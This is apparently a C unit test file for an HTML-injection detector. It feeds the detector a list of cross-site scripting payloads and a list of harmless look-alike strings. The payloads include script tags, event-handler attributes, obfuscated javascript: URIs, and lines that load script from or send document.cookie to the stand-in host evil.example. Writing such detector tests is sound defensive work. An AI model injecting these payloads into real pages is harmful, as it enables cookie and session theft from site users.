/* HTML that runs is found; plain tags, talk about tags and pasted pages are not. */
#include "unit/guard/injection_cases.h"

extern const bawn_guard bawn_guard_html;

static const char *const attacks[] = {
    "<script>alert(1)</script>", "<ScRiPt >alert(document.cookie)</sCrIpT>", "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<body onload=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>", "<iframe src=\"http://evil.example\"></iframe>", "\"><script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "<input autofocus onfocus=eval(atob('x'))>",
    "<details open ontoggle=alert(1)>", "<meta http-equiv=\"refresh\" content=\"0;url=http://evil.example\">",
    "<object data=\"http://evil.example/x.swf\"></object>", "<script>x()</script>", "<script\n>alert(1)</script>",
    "<div onclick=\"fetch('//evil.example/'+document.cookie)\">", "<img src=x onerror = alert`1`>",
    "\" onmouseover=\"alert(1)", "' onfocus='alert(1)' autofocus='", "<a href=\"jav&#x09;ascript:alert(1)\">", "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href=\"java\tscript:alert(1)\">", "vbscript:msgbox(1)", "<div style=\"width:expression(alert(1))\">",
};
static const char *const honest[] = {
    "<b>bold</b> and <i>italic</i>", "Put it in a <script> tag", "How does the `<script>` element work? And `<iframe src=x>`?",
    "<button onclick=\"save()\">Save</button>", "<Button onClick={save}>Save</Button>", "JavaScript: the good parts",
    "<!doctype html><html><head><script>var a = 1;</script></head><body onload=\"init()\">", "<a href=\"javascript:void(0)\">",
    "if (a <b && online = 5)", "one = 1; <p>money=3</p>", "List<Script> x; Map<object, base> y", "<script setup lang=\"ts\">",
    "data:text/plain,hello", "x < y and on = 3 > 2", "<meta charset=\"utf-8\">",
    "class=\"btn\" onclick=\"alert(1)\"", "\" onmouseover=\"show()", "<a href=\"jobs&#x2F;ascript\">", "<a href=\"java&#x20;and more\">",
    "<div style=\"width: calc(1px)\">", "vbscript: an old language", "say \"a\" onclick=\"alert(1)\"",
};

static void finds_payloads(void **state) { (void)state; cases_all_found(&bawn_guard_html, attacks, BAWN_COUNT(attacks)); }
static void passes_honest_text(void **state) { (void)state; cases_none_found(&bawn_guard_html, honest, BAWN_COUNT(honest)); }
static void finds_payloads_in_arguments(void **state)
{
    static const char *const bad[] = {
        "{\"q\": \"\\\" onmouseover=\\\"alert(1)\", \"n\": 1}", "{\"q\":\"<a href=\\\"jav&#x09;ascript:alert(1)\\\">\"}"
    }, *const good[] = {
        "{\"q\": \"class=\\\"btn\\\" onclick=\\\"alert(1)\\\"\"}"
    };
    (void)state;
    cases_in_arguments(&bawn_guard_html, bad, BAWN_COUNT(bad), good, BAWN_COUNT(good));
}

static void rows_hold_and_cutting_changes_nothing(void **state)
{
    (void)state;
    cases_rows_and_cuts(&bawn_guard_html, attacks, BAWN_COUNT(attacks));
    cases_rows_and_cuts(&bawn_guard_html, honest, BAWN_COUNT(honest));
}

int main(void)
{
    const struct CMUnitTest tests[] = { cmocka_unit_test(finds_payloads), cmocka_unit_test(passes_honest_text), cmocka_unit_test(finds_payloads_in_arguments),
                                        cmocka_unit_test(rows_hold_and_cutting_changes_nothing) };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
